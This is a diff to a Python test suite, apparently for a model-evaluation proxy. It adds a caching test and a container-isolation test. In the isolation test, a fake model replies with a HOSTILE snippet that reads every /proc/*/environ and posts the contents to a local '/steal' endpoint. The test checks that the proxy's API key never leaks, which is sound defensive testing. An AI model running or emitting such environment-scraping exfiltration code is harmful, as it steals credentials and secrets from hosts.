@@ -33,6 +33,7 @@ class Recorder:
         self.bodies: list[dict] = []
         self.auth: list[str | None] = []
         self.in_flight = self.max_in_flight = 0
+        self.stolen: list[bytes] = []
         self.loop = asyncio.new_event_loop()
         ready = threading.Event()
         self.thread = threading.Thread(target=self._run, args=(ready,), daemon=True)
@@ -45,6 +46,7 @@ class Recorder:
         app = web.Application()
         app.router.add_post("/v1/chat/completions", self.handle)
         app.router.add_post("/v1/completions", self.handle)
+        app.router.add_post("/steal", self.steal)
         self.runner = web.AppRunner(app, access_log=None)
         self.loop.run_until_complete(self.runner.setup())
         site = web.TCPSite(self.runner, "127.0.0.1", 0)
@@ -52,6 +54,10 @@ class Recorder:
         self.port = site._server.sockets[0].getsockname()[1]
         ready.set()
         self.loop.run_forever()
+
+    async def steal(self, request: web.Request) -> web.Response:
+        self.stolen.append(await request.read())
+        return web.Response(text="thanks")
 
     async def handle(self, request: web.Request) -> web.StreamResponse:
         body = await request.json()
@@ -394,3 +400,98 @@ def test_bad_config_is_one_line_exit_2(tmp_path, config, env, expected):
     )
     assert proc.returncode == 2 and proc.stdout == ""
     assert expected in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
+
+
+def harness_config(results: Path, url: str, task: str, limit: int) -> Path:
+    """A harness run_config.json (the keys launcher.harness reads) with no key variable: the proxy has it."""
+    results.mkdir(parents=True, exist_ok=True)
+    params = {"parallelism": 8, "request_timeout": 10.0, "max_retries": 2, "max_error_fraction": 0.05,
+              "limit_samples": limit, "temperature": 0.0, "top_p": None, "max_tokens": 64, "seed": None,
+              "stop": None}  # fmt: skip
+    config = {"task": task, "model_id": "fake", "url": url, "endpoint_type": "chat", "api_key_env": None,
+              "params": params}  # fmt: skip
+    (results / "run_config.json").write_text(json.dumps(config))
+    return results / "run_config.json"
+
+
+def harness_score(results: Path, task: str, metric: str) -> float:
+    data = json.loads((results / "results.json").read_text())
+    return data["results"]["tasks"][task]["metrics"][metric]["scores"][metric]["value"]
+
+
+def test_harness_through_the_proxy_then_cached_rerun(tmp_path, started, endpoint):
+    """The issue's caching test at the harness level: a second run sharing the cache_dir sends 0 upstream
+    requests and scores the same."""
+    ep = endpoint("oracle")
+    adapter = {"caching_dir": str(tmp_path / "cache")}
+    scores = []
+    for run in ("first", "second"):
+        proxy = ProxyProcess(
+            tmp_path, ep.url(), adapter, key_env="PROXY_TEST_KEY", env={"PROXY_TEST_KEY": "k-1"}
+        )
+        started.append(proxy)
+        config = harness_config(tmp_path / run, f"{proxy.base}/v1/chat/completions", "gsm8k", 30)
+        proc = subprocess.run(
+            [sys.executable, "-m", "launcher.harness", "run", "--config", str(config)],
+            capture_output=True, text=True, timeout=120,
+            env={k: v for k, v in {**os.environ, "PYTHONPATH": str(ROOT)}.items() if k != "API_KEY"},
+        )  # fmt: skip
+        assert proc.returncode == 0, proc.stdout + proc.stderr
+        scores.append(harness_score(tmp_path / run, "gsm8k", "exact_match"))
+        assert proxy.stop() == 0
+        if run == "first":
+            upstream_after_first = ep.stats()["total"]
+    assert scores == [1.0, 1.0]
+    assert ep.stats()["total"] == upstream_after_first == 30
+    assert proxy.stats()["cache_hits"] == 30 and proxy.stats()["upstream_requests"] == 0
+
+
+HOSTILE = """```python
+import glob, urllib.request
+loot = b""
+for path in glob.glob("/proc/*/environ"):
+    try:
+        loot += open(path, "rb").read() + b"\\n"
+    except OSError:
+        pass
+try:
+    urllib.request.urlopen("http://127.0.0.1:{port}/steal", loot, timeout=5)
+except Exception:
+    pass
+```"""
+
+
+def test_task_container_has_no_key_to_steal(tmp_path, started, harness_image, docker_engine):
+    """HumanEval in the real harness image, through the proxy: model code that reads every /proc/*/environ
+    and posts it to 127.0.0.1 finds no key; neither does `docker inspect` of the task container."""
+    secret = f"sk-hostile-{uuid.uuid4().hex}"
+    rec = Recorder()
+    started.append(rec)
+    rec.reply = HOSTILE.format(port=rec.port)
+    proxy = ProxyProcess(tmp_path, rec.url, {}, key_env="PROXY_TEST_KEY", env={"PROXY_TEST_KEY": secret})
+    started.append(proxy)
+    results = tmp_path / "results"
+    harness_config(results, f"{proxy.base}/v1/chat/completions", "humaneval", 3)
+    results.chmod(0o777)
+    name = f"launcher-proxy-test-{uuid.uuid4().hex[:8]}"
+    run = subprocess.run(
+        ["docker", "run", "--name", name, "--network", "host", "--user", f"{os.getuid()}:{os.getgid()}",
+         "-v", f"{results}:/results", "-e", "HOME=/tmp", harness_image,
+         "python3", "-m", "launcher.harness", "run", "--config", "/results/run_config.json"],
+        capture_output=True, text=True, timeout=300,
+    )  # fmt: skip
+    try:
+        inspect = subprocess.run(
+            ["docker", "inspect", name], capture_output=True, text=True, check=True
+        ).stdout
+    finally:
+        subprocess.run(["docker", "rm", "-f", name], capture_output=True)  # the container this test started
+    assert len(rec.bodies) >= 3, run.stdout + run.stderr  # the model was asked, through the proxy
+    assert rec.auth[0] == f"Bearer {secret}"
+    assert secret not in inspect
+    # (a sandbox without network makes `stolen` empty: then nothing left the container at all)
+    assert all(secret.encode() not in loot for loot in rec.stolen)
+    print(f"stolen posts: {len(rec.stolen)}, bytes: {sum(map(len, rec.stolen))}")
+    for path in results.rglob("*"):
+        if path.is_file():
+            assert secret not in path.read_text(errors="replace"), path
